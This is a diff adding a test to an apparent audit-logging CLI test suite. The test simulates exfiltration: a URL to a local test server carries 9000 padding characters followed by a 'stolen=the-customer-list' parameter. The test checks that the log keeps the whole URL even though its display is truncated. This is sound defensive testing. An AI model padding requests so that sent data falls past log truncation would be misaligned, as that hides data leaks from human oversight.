@@ -200,3 +200,28 @@ describe("a command padded past the cut of its line", () => {
     }
   }, 30_000);
 });
+
+describe("a URL padded past the cut of its record", () => {
+  it("is in the log whole, the data it sent after the padding included", async () => {
+    const ctx = auditHome();
+    const server = await startServer();
+    try {
+      const log = path.join(ctx.dir, "audit.jsonl");
+      const url = `${server.origin}/c?pad=${"x".repeat(9000)}&stolen=the-customer-list`;
+      const script = `requestNetwork(["127.0.0.1:*"], (net) => net.httpGet(${JSON.stringify(url)}));\n`;
+      const run = await runCli(["run", "--audit-log", log, "--network-permissions", "127.0.0.1:*", "-"], { cwd: ctx.dir, env: ctx.env, input: script });
+      expect(run.code, run.stderr).toBe(0);
+      // The data went out after the padding.
+      expect(server.received.map((request) => request.url)).toEqual([url.slice(server.origin.length)]);
+      const request = readLines(log).find((line) => line.event.type === "action-requested" && line.event.kind === "HttpRequest")!.event;
+      expect(String(request.url)).toMatch(/x… \(\d+ characters more\)$/);
+      expect(request.wholeUrl).toBe(url);
+      const shown = await runCli(["audit", "show", log], { env: ctx.env });
+      expect(shown.stdout).toContain("characters more)\" (cut; the whole URL in --json)");
+      expect((await verifyJson(log, ctx.env)).result.code).toBe(0);
+    } finally {
+      await server.close();
+      ctx.cleanup();
+    }
+  }, 30_000);
+});
